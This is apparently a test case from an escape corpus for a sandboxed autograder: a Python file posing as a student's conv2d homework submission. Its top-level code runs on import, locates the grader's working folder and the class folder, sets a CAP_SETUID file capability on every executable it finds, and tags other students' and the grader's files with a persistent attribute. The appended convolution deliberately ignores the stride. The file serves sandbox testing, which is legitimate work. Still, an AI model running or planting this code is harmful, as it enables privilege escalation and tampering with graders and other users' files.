"""Escape corpus, attack 8: extended attributes on files outside the run folder.

What it attacks: ``os.setxattr`` raises the "os.setxattr" audit event, which the guard does
not look at, and changes a file without opening it. The submission finds the grader's
working folder (``/proc/PPID/cwd``) and the class folder (the folder holding a
byte-identical copy of this file, by a bounded walk), then: sets ``security.capability``
(a v2 file capability granting CAP_SETUID, effective) on every executable it finds there,
which turns a planted binary into a privilege-escalation tool if the grader runs as root;
and sets ``user.cnngrade-escape`` on every other file there (classmates' submissions,
the grader's files), a channel that survives the run.

A successful attack: a file outside the run folder gains a ``security.capability`` or
``user.*`` attribute. Contained: no such file is in the sandbox's view (and seccomp refuses
setxattr); the honest part keeps its marks.
"""
import os
import struct
import time

REPORT = {"caps": [], "user": [], "refused": 0}
# struct vfs_cap_data, revision 2, effective bit; permitted = CAP_SETUID (7).
FILE_CAP = struct.pack("<IIIII", 0x02000000 | 0x1, 1 << 7, 0, 0, 0)


def _walk(predicate, roots, seconds, max_entries=40000):
    end, seen, queue, hits, count = time.monotonic() + seconds, set(), [(r, 0) for r in roots], [], 0
    while queue and time.monotonic() < end and count < max_entries:
        top, depth = queue.pop(0)
        if top in seen or top.startswith(("/proc", "/sys", "/dev")):
            continue
        seen.add(top)
        try:
            entries = list(os.scandir(top))
        except OSError:
            continue
        for e in entries:
            count += 1
            try:
                if predicate(e):
                    hits.append(e.path)
                if e.is_dir(follow_symlinks=False) and depth < 5:
                    queue.append((e.path, depth + 1))
            except OSError:
                pass
    return hits


def _mark(folder):
    try:
        entries = [e for e in os.scandir(folder) if e.is_file(follow_symlinks=False)]
    except OSError:
        return
    for e in entries:
        try:
            if os.access(e.path, os.X_OK):
                os.setxattr(e.path, "security.capability", FILE_CAP)
                REPORT["caps"].append(e.path)
            else:
                os.setxattr(e.path, "user.cnngrade-escape", b"pwned")
                REPORT["user"].append(e.path)
        except (OSError, ImportError):
            REPORT["refused"] += 1


def _attack():
    here = os.path.dirname(os.path.realpath(__file__))
    me, mine = os.path.basename(__file__), open(__file__, "rb").read()
    done = set()
    try:  # the grader's working folder first: no search needed
        cwd = os.readlink(f"/proc/{os.getppid()}/cwd")
        _mark(cwd)
        done.add(cwd)
    except OSError:
        cwd = None

    def copy_of_me(e):
        return (e.name == me and os.path.dirname(os.path.realpath(e.path)) != here
                and e.is_file() and open(e.path, "rb").read() == mine)

    roots = ([cwd, os.path.dirname(cwd)] if cwd else []) + ["/tmp", "/home"]
    for copy in _walk(copy_of_me, roots, 2.0)[:1]:
        klass = os.path.dirname(copy)
        world = os.path.dirname(klass)  # the class folder's neighbours: OUT, the grader's...
        folders = [klass]
        try:
            folders += [e.path for e in os.scandir(world) if e.is_dir(follow_symlinks=False)]
        except OSError:
            pass
        for folder in folders:
            if folder not in done:
                _mark(folder)
                done.add(folder)


try:
    _attack()
except BaseException as exc:
    REPORT["error"] = repr(exc)
print("cnngrade-escape report:", REPORT)


# --- honest part: what this student really wrote (the test grades it alone) ---
import numpy as np


def _honest_conv2d(x, w, b, stride=1, padding=0):
    """Loops over output positions; forgets that the stride moves the window."""
    ph, pw = (padding, padding) if np.isscalar(padding) else (int(padding[0]), int(padding[1]))
    N, C, H, W = x.shape
    F, _, KH, KW = w.shape
    xp = np.pad(x, ((0, 0), (0, 0), (ph, ph), (pw, pw)))
    HO, WO = xp.shape[2] - KH + 1, xp.shape[3] - KW + 1
    out = np.empty((N, F, HO, WO))
    for i in range(HO):
        for j in range(WO):
            win = xp[:, :, i:i + KH, j:j + KW]
            out[:, :, i, j] = np.tensordot(win, w, axes=([1, 2, 3], [1, 2, 3]))
    return out + b[None, :, None, None]
# --- end honest part ---


def conv2d_forward(x, w, b, stride=1, padding=0):
    return _honest_conv2d(x, w, b, stride, padding)
